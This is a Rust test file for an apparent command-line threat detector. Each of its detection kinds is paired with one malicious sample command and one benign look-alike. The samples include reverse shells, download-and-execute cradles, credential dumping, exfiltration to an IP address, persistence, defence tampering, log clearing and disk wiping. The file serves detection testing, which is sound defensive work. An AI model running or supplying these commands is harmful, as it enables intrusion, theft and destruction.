use super::*;
use crate::testing::event;
use std::collections::BTreeSet;

fn found(command: &str) -> Vec<Kind> {
    let fields =
        [(field::ACTIVITY, "Launch"), (field::PROCESS_CMD_LINE, command), (field::DEVICE_HOSTNAME, "ws1")];
    let event = event(Class::ProcessActivity, &fields);
    find(View(&event)).into_iter().map(|(kind, _)| kind).collect()
}

/// A command that establishes the fact, and one near it that does not.
#[rustfmt::skip]
const EXAMPLES: [(Kind, &str, &str); 113] = [
    (Kind::DownloadCradle, "powershell IEX (New-Object Net.WebClient).DownloadString('http://a/b')", "powershell Invoke-WebRequest https://mirror/pkg.zip -OutFile pkg.zip"),
    (Kind::DownloadCradle, "curl -s http://203.0.113.7/a.sh | bash", "curl -O https://mirror/pkg.rpm"),
    (Kind::ReverseShell, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash -i"),
    (Kind::ReverseShell, "nc -e /bin/sh 10.0.0.1 4444", "nc -z db1 5432"),
    (Kind::HiddenPowerShell, "powershell.exe -NoP -W Hidden -File a.ps1", "powershell.exe -File a.ps1"),
    (Kind::ReflectiveLoad, "[System.Reflection.Assembly]::Load($bytes)", "[System.Reflection.Assembly]::LoadWithPartialName('System.Web')"),
    (Kind::OffensiveToolkit, "powershell Invoke-Mimikatz -DumpCreds", "powershell Invoke-Pester"),
    (Kind::AmsiBypass, "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "Get-MpThreat"),
    (Kind::EtwTampered, "logman stop EventLog-System -ets", "logman query -ets"),
    (Kind::ScriptFromUserFolder, r"wscript.exe C:\Users\ann\AppData\Local\Temp\invoice.vbs", r"cscript.exe C:\Windows\System32\slmgr.vbs /dli"),
    (Kind::DecodedFile, r"certutil -decode a.txt b.exe", "certutil -hashfile a.exe SHA256"),
    (Kind::ToolDownload, "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe", "certutil -verify server.cer"),
    (Kind::BitsTransfer, r"bitsadmin /transfer j http://203.0.113.7/a.exe C:\a.exe", "bitsadmin /list"),
    (Kind::MshtaAbuse, "mshta.exe javascript:a=GetObject('script:http://a/b')", r"mshta.exe C:\Program Files\Vendor\setup.hta"),
    (Kind::Regsvr32Abuse, "regsvr32.exe /s /n /u /i:http://10.10.10.5/a.sct scrobj.dll", r"regsvr32 /s C:\Windows\System32\msxml3.dll"),
    (Kind::Rundll32Abuse, r"rundll32.exe C:\Users\ann\AppData\Local\Temp\a.dll,Start", r"rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL intl.cpl"),
    (Kind::InstallUtilAbuse, r"InstallUtil.exe /logfile= /LogToConsole=false /U a.dll", r"InstallUtil.exe C:\Program Files\Vendor\service.exe"),
    (Kind::RegasmAbuse, r"regasm.exe /U C:\Users\Public\a.dll", r"regasm.exe C:\Program Files\Vendor\lib.dll"),
    (Kind::MsbuildAbuse, r"msbuild.exe C:\Users\ann\Downloads\a.xml", r"msbuild.exe D:\build\app.csproj /m"),
    (Kind::MsiexecAbuse, "msiexec /q /i http://203.0.113.7/a.msi", r"msiexec /i C:\installers\7zip.msi /qn"),
    (Kind::CmstpAbuse, r"cmstp.exe /s /ns C:\Temp\a.inf", "cmstp.exe"),
    (Kind::OdbcconfAbuse, r"odbcconf.exe /a {REGSVR C:\Temp\a.dll}", "odbcconf.exe /?"),
    (Kind::HelpAbuse, "hh.exe http://203.0.113.7/a.chm", r"hh.exe C:\Windows\Help\mmc.chm"),
    (Kind::ControlPanelAbuse, r"control.exe C:\Users\ann\Downloads\a.cpl", "control.exe timedate.cpl"),
    (Kind::ScriptletWmic, "wmic os get /format:http://203.0.113.7/a.xsl", "wmic os get caption"),
    (Kind::IndirectExecution, "forfiles /p c:\\windows /m notepad.exe /c calc.exe", "forfiles /p d:\\logs /d -30"),
    (Kind::ScriptProxy, "cscript pubprn.vbs 127.0.0.1 script:http://a/b.sct", "cscript prnmngr.vbs -l"),
    (Kind::ProxyExecution, r"mavinject.exe 4172 /INJECTRUNNING C:\Temp\a.dll", "msdt.exe /id NetworkDiagnosticsWeb"),
    (Kind::CredentialDumpCommand, r"rundll32.exe C:\windows\System32\comsvcs.dll MiniDump 756 C:\x.dmp full", r"rundll32.exe C:\windows\System32\printui.dll,PrintUIEntry"),
    (Kind::CredentialDumpCommand, "procdump -ma lsass.exe out", "procdump -h"),
    (Kind::HiveSaved, r"reg save HKLM\SAM sam.hive", r"reg save HKLM\Software\Vendor vendor.hiv"),
    (Kind::LsaSecretsRead, "mimikatz dpapi::masterkey /in:key", r"reg query HKLM\Software"),
    (Kind::DirectoryDatabaseCopied, "ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\temp\" q q", "ntdsutil files info"),
    (Kind::VaultListed, "vaultcmd /listcreds:\"Windows Credentials\"", "cmdkey /add:server /user:u"),
    (Kind::BrowserStoreRead, r"copy 'C:\Users\a\AppData\Local\Google\Chrome\User Data\Default\Login Data' c:\temp", r"copy C:\docs\a.txt c:\temp"),
    (Kind::CredentialFilesSearched, "findstr /si password *.xml *.ini", "findstr /i error app.log"),
    (Kind::PrivateKeyRead, "find / -name id_rsa", "find / -name httpd.conf"),
    (Kind::GroupPolicyPassword, r"findstr /S cpassword \\dc\sysvol\*.xml", r"findstr /S version \\dc\share\*.xml"),
    (Kind::LocalPasswordRead, "Get-ADComputer ws1 -Properties ms-Mcs-AdmPwd", "Get-ADComputer ws1 -Properties LastLogonDate"),
    (Kind::KerberosToolCommand, "setspn -T corp -Q */*", "setspn -L svc_sql"),
    (Kind::CertificateRequest, "certify.exe find /vulnerable", "certutil -store my"),
    (Kind::ShadowFileRead, "cat /etc/shadow", "cat /etc/hosts"),
    (Kind::PasswordFilterWritten, "mimikatz misc::memssp", "mimic.exe --help"),
    (Kind::Keylogging, "Get-Keystrokes -LogPath c:\\k.txt", "Get-Key -Name x"),
    (Kind::ForcedAuthentication, "python PetitPotam.py 10.0.0.5 10.0.0.10", "python report.py 10.0.0.5"),
    (Kind::NtlmRelayTool, "python Responder.py -I eth0", "responder --version"),
    (Kind::PasswordGuessTool, "hydra -l root -P words.txt ssh://10.0.0.5", "hydrate.sh --all"),
    (Kind::PipeImpersonation, r"cmd.exe /c echo abcdef > \\.\pipe\abcdef", "cmd.exe /c echo done > result.txt"),
    (Kind::PrivilegeTool, "JuicyPotato.exe -l 1337 -p cmd.exe", "potato-peeler.exe"),
    (Kind::UacBypassProcess, r"reg add HKCU\Software\Classes\ms-settings\shell\open\command /d cmd.exe /f", r"reg add HKCU\Software\Vendor /v a /d b"),
    (Kind::UacDisabled, r"reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Policies\System /v EnableLUA /d 0", r"reg query HKLM\Software\Microsoft\Windows\CurrentVersion\Policies\Explorer"),
    (Kind::SudoersChanged, "echo 'bob ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", "sudo -l"),
    (Kind::SetuidSet, "chmod u+s /tmp/bash", "chmod 644 /etc/motd"),
    (Kind::ExploitCommand, "gcc -o exploit exploit.c", "gcc -o app app.c"),
    (Kind::RemoteServiceCommand, r"sc \\server1 create s binPath= cmd.exe", "sc query spooler"),
    (Kind::RemoteWmiCommand, "wmic /node:10.0.0.5 process call create calc.exe", "wmic process list brief"),
    (Kind::RemoteShellCommand, "winrs -r:server1 ipconfig", "winrm enumerate winrm/config/listener"),
    (Kind::RemoteTaskCommand, "schtasks /create /s server1 /tn a /tr calc.exe /sc once /st 00:00", "schtasks /query"),
    (Kind::AdminShareUsed, r"net use \\server1\c$ /user:corp\bob", r"net use Z: \\server1\public"),
    (Kind::ImpacketOutput, r"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1600000000.1 2>&1", "cmd.exe /c whoami > out.txt"),
    (Kind::ToolCopiedOverShare, r"copy a.exe \\server1\c$\windows\temp\a.exe", r"copy a.txt \\server1\public\a.txt"),
    (Kind::PassTheTicket, "rubeus.exe ptt /ticket:a.kirbi", "klist purge"),
    (Kind::SessionHijack, "tscon 2 /dest:console", "tasklist /s server1"),
    (Kind::RemoteDesktopEnabled, "reg add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f", "mstsc /v:server1"),
    (Kind::RemoteDesktopTunnel, "plink.exe -R 3389:127.0.0.1:3389 user@203.0.113.7", "plink.exe user@10.0.0.5 uptime"),
    (Kind::PortForward, "netsh interface portproxy add v4tov4 listenport=8080 connectaddress=10.0.0.5 connectport=3389", "netsh interface show interface"),
    (Kind::RemoteAccessTool, "AnyDesk.exe --install C:\\AnyDesk --silent --start-with-win", "AnyDesk.exe"),
    (Kind::ServiceChanged, "sc create updater binPath= c:\\windows\\temp\\u.exe", "sc query updater"),
    (Kind::JobCreatedByCommand, "schtasks /create /tn a /tr b.exe /sc daily", "schtasks /query /tn a"),
    (Kind::AutostartWritten, r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d b.exe", r"reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run"),
    (Kind::WmiSubscription, "Set-WmiInstance -Class __EventFilter -Namespace root\\subscription", "Get-WmiObject Win32_Service"),
    (Kind::AccessibilityHijack, r"copy c:\windows\system32\cmd.exe c:\windows\system32\sethc.exe", r"copy c:\windows\system32\drivers\etc\hosts d:\backup"),
    (Kind::DebuggerHijack, r"reg add 'HKLM\Software\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\notepad.exe' /v Debugger /d a.exe", r"reg query 'HKLM\Software\Microsoft\Windows NT\CurrentVersion'"),
    (Kind::ShareChanged, r"net share data=c:\data /grant:everyone,full", "net share"),
    (Kind::NetshHelper, r"netsh add helper c:\temp\a.dll", "netsh show helper"),
    (Kind::ShimInstalled, r"sdbinst.exe -q c:\temp\a.sdb", "sdbinst.exe /?"),
    (Kind::AccountPersistence, "net user backdoor P@ss /add", "net user alice"),
    (Kind::PasswordReset, "net user administrator N3wpass", "net user administrator /domain"),
    (Kind::CronWritten, "echo '* * * * * /tmp/a' | crontab -", "crontab -l"),
    (Kind::SystemdUnitWritten, "cp a.service /etc/systemd/system/a.service", "systemctl status a"),
    (Kind::SshKeyAdded, "echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys", "ssh-keygen -t ed25519"),
    (Kind::ShellProfileWritten, "echo '/tmp/a &' >> ~/.bashrc", "cat ~/.bashrc"),
    (Kind::PreloadSet, "LD_PRELOAD=/tmp/a.so sudo id", "ldd /bin/ls"),
    (Kind::KernelModule, "insmod rootkit.ko", "lsmod"),
    (Kind::WebshellWritten, r"echo x > c:\inetpub\wwwroot\a.aspx", r"type c:\inetpub\wwwroot\index.html"),
    (Kind::MailboxTransport, "appcmd.exe install module /name:a /image:a.dll", "appcmd.exe list site"),
    (Kind::LogCleared, "wevtutil cl Security", r"wevtutil epl Security D:\logarchive\sec.evtx"),
    (Kind::HistoryCleared, "history -c && unset HISTFILE", "history | grep ssh"),
    (Kind::ProtectionTampered, "Set-MpPreference -DisableRealtimeMonitoring $true", "Get-MpPreference"),
    (Kind::FirewallTampered, "netsh advfirewall set allprofiles state off", "netsh advfirewall show allprofiles"),
    (Kind::AuditTampered, "auditpol /clear /y", "auditpol /get /category:*"),
    (Kind::PlainTextCredentials, r"reg add HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /d 1", r"reg query HKLM\System\CurrentControlSet\Control\SecurityProviders"),
    (Kind::FileTimeChanged, "touch -r /bin/ls /tmp/a", "touch /tmp/a"),
    (Kind::FileHidden, r"attrib +h +s c:\users\public\a.exe", "attrib c:\\a.txt"),
    (Kind::AlternateStream, r"type a.exe > c:\temp\b.txt:hidden.exe", r"type a.txt > c:\temp\b.txt"),
    (Kind::PermissionsWeakened, r"icacls c:\data /grant everyone:F", r"icacls c:\data"),
    (Kind::SecureDelete, "sdelete -s c:\\data", "del c:\\data\\a.txt"),
    (Kind::SelfDeletion, r"cmd /c ping 127.0.0.1 -n 3 > nul & del c:\temp\a.exe", "cmd /c ping 127.0.0.1"),
    (Kind::HiddenUser, r"reg add 'HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList' /v bob /d 0", "net user bob"),
    (Kind::SafeMode, "bcdedit /set {default} safeboot minimal", "bcdedit /enum"),
    (Kind::RootCertificate, "certutil -addstore -f root a.cer", "certutil -store root"),
    (Kind::DirectoryReconTool, "SharpHound.exe --CollectionMethods All", "Get-ADUser alice"),
    (Kind::NetworkScanTool, "nmap -sS 10.0.0.0/24", "ping 10.0.0.5"),
    (Kind::NetworkSniffing, "tcpdump -i eth0 -w a.pcap", "tcpreplay --help"),
    (Kind::ArchiveWithPassword, "rar a -hpSecret out.rar c:\\data", "7z x archive.7z"),
    (Kind::ScreenCaptured, "[Drawing.Graphics]::FromImage($b).CopyFromScreen(0,0)", "Get-Screen"),
    (Kind::AudioCaptured, "Get-MicrophoneAudio -Path a.wav", "Get-Audio"),
    (Kind::ClipboardRead, "powershell Get-Clipboard", "powershell Set-Clipboard a"),
    (Kind::MailCollected, "New-MailboxExportRequest -Mailbox ceo -FilePath \\\\a\\b.pst", "Get-Mailbox ceo"),
    (Kind::CloudCopyTool, "rclone.exe copy c:\\data mega:data", "rclone version"),
    (Kind::UploadCommand, "curl -T secrets.zip ftp://203.0.113.7/", "curl https://mirror/index.html"),
    (Kind::RecoveryRemoved, "vssadmin.exe delete shadows /all /quiet", "vssadmin list shadows"),
    (Kind::ServiceStopCommand, "net stop MSSQLSERVER", "net start MSSQLSERVER"),
];
/// Those that would make the table above unwieldy.
const MORE: [(Kind, &str, &str); 4] = [
    (Kind::DiskWiped, "dd if=/dev/zero of=/dev/sda bs=1M", "dd if=a.iso of=b.iso"),
    (Kind::ForcedShutdown, "shutdown /r /t 0", "shutdown /a"),
    (Kind::AccountLocked, "net user alice /active:no", "net user alice"),
    (Kind::Mining, "xmrig -o stratum+tcp://pool:3333", "miner-report.exe"),
];

#[test]
fn every_row_has_a_command_that_shows_it_and_one_that_does_not() {
    let mut shown = BTreeSet::new();
    for (kind, yes, no) in EXAMPLES.iter().chain(&MORE) {
        assert!(found(yes).contains(kind), "{kind:?} should be found in {yes}: {:?}", found(yes));
        assert!(!found(no).contains(kind), "{kind:?} should not be found in {no}");
        shown.insert(*kind);
    }
    let rows: BTreeSet<Kind> = ROWS.iter().map(|row| row.kind).collect();
    let without: Vec<&Kind> = rows.difference(&shown).collect();
    assert!(without.is_empty(), "rows without an example: {without:?}");
}

#[test]
fn every_pattern_compiles() {
    for row in &ROWS {
        for pattern in [Some(&row.pattern), row.unless.as_ref()].into_iter().flatten() {
            assert!(regex::Regex::new(pattern.regex).is_ok(), "{:?}: {}", row.kind, pattern.regex);
        }
    }
}

#[test]
fn carets_and_encoding_do_not_hide_a_command() {
    assert!(found("cmd /c v^ss^admin del^ete sha^dows /all").contains(&Kind::RecoveryRemoved));
    // whoami /all, in base64 of UTF-16, is no attack; the encoded hive dump is one.
    let encoded = "powershell -enc cgBlAGcAIABzAGEAdgBlACAASABLAEwATQBcAFMAQQBNACAAYQA=";
    assert!(found(encoded).contains(&Kind::HiveSaved), "{:?}", found(encoded));
}
